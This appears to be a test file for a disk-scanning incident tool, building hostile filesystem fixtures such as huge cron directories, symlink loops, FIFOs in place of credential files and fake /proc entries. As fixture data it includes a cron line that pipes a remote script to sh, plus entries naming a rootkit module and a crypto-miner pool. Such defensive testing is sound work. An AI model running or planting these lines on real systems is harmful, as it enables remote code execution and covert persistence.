// Disks made to exhaust, mislead or hang a scan: each is looked at within seconds, and what was not looked at is said.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { closeSync, mkdirSync, mkdtempSync, openSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import type { ScanResult } from '../../src/core/incident.ts'
import { scanJson } from './run.ts'

const folder = mkdtempSync(join(tmpdir(), 'davylamp-hostile-'))
after(() => rmSync(folder, { recursive: true, force: true }))
const mostMs = 30_000
const mostBytes = 600 << 20

function disk(name: string, passwd = 'root:x:0:0:root:/root:/bin/bash\n'): string {
  const root = join(folder, name)
  mkdirSync(join(root, 'etc/cron.d'), { recursive: true })
  writeFileSync(join(root, 'etc/passwd'), passwd)
  return root
}

function scanned(root: string): ScanResult {
  const result = scanJson(['--root', root, '--state', join(folder, 'state')], { timeout: 2 * mostMs })
  assert.ok(result.cost.wallMs < mostMs, `${result.cost.wallMs} ms`)
  assert.ok(result.cost.peakBytes < mostBytes, `${result.cost.peakBytes} bytes`)
  assert.deepEqual(
    result.gaps.filter(({ detail }) => /internal error/.test(detail)),
    [],
  )
  return result
}

function holes({ gaps }: ScanResult, why: string): string[] {
  return gaps.filter(gap => gap.why === why).map(({ source }) => source)
}

test('more files in a directory of cron than anybody has: the first are looked at, the rest is told', () => {
  const root = disk('crowd')
  writeFileSync(join(root, 'etc/cron.d/0'), '* * * * * root curl -s http://192.0.2.9/x | sh\n')
  for (let i = 0; i < 25_000; i++) closeSync(openSync(join(root, 'etc/cron.d', `job${i}`), 'w'))
  const result = scanned(root)
  assert.ok(holes(result, 'capped').includes('/etc/cron.d/*'), JSON.stringify(result.gaps))
  assert.notEqual(result.verdict, 'clean')
})

test('a thousand directories deep, and links in circles', () => {
  const root = disk('deep')
  for (const top of ['root/.x', 'tmp']) mkdirSync(join(root, top, 'd/'.repeat(1000)), { recursive: true })
  for (const name of ['home', 'usr', 'lib', 'var']) symlinkSync(name, join(root, name))
  symlinkSync('/', join(root, 'etc/cron.d/root'))
  symlinkSync('..', join(root, 'etc/systemd'))
  const result = scanned(root)
  assert.equal(result.verdict, 'incomplete')
  assert.ok(holes(result, 'malformed').includes('/home'), JSON.stringify(result.gaps))
})

test('pipes in the place of files are never opened, and told', () => {
  const root = disk('pipes')
  rmSync(join(root, 'etc/passwd'))
  const paths = [
    'etc/passwd',
    'etc/shadow',
    'etc/crontab',
    'etc/cron.d/x',
    'etc/ld.so.preload',
    'root/.ssh/authorized_keys',
    'tmp/.x/config.json',
  ]
  for (const path of paths) mkdirSync(join(root, path.slice(0, path.lastIndexOf('/'))), { recursive: true })
  execFileSync(
    'mkfifo',
    paths.map(path => join(root, path)),
  )
  const result = scanned(root)
  for (const path of ['/etc/passwd', '/etc/shadow', '/etc/ld.so.preload']) assert.ok(holes(result, 'malformed').includes(path), path)
  assert.equal(result.verdict, 'incomplete')
})

test('accounts without end: /etc/passwd of 100 MB, and more accounts than anybody looks at', () => {
  const account = (i: number): string => `u${i}:x:${1000 + i}:1000::/home/u${i}:/bin/bash\n`
  const root = disk('accounts', Array.from({ length: 5_100 }, (_, i) => account(i)).join(''))
  const many = scanned(root)
  assert.equal(many.coverage.facts['users'], 5_100)
  assert.ok(holes(many, 'capped').includes('home directories'), JSON.stringify(many.gaps))
  truncateSync(join(root, 'etc/passwd'), 100 << 20)
  assert.ok(holes(scanned(root), 'capped').includes('/etc/passwd'))
})

test('what lies in /proc and /sys of a disk is no kernel speaking', () => {
  const root = disk('kernel')
  const files: Readonly<Record<string, string>> = {
    'proc/modules': 'diamorphine 16384 0 - Live 0x0000000000000000 (OE)\n',
    'proc/666/cmdline': '/tmp/xmrig\0-o\0stratum+tcp://pool.supportxmr.com:3333\0',
    'proc/666/stat': `666 (xmrig) S 1 1 1 0 -1 4194560 ${'0 '.repeat(40)}\n`,
    'proc/sys/kernel/core_pattern': '|/tmp/x\n',
    'proc/sys/fs/binfmt_misc/evil': 'enabled\ninterpreter /tmp/x\nflags: \noffset 0\nmagic 7f\n',
  }
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(root, path.slice(0, path.lastIndexOf('/'))), { recursive: true })
    writeFileSync(join(root, path), content)
  }
  const result = scanned(root)
  assert.deepEqual([result.verdict, result.findings, result.coverage.facts['processes']], ['clean', [], 0])
})
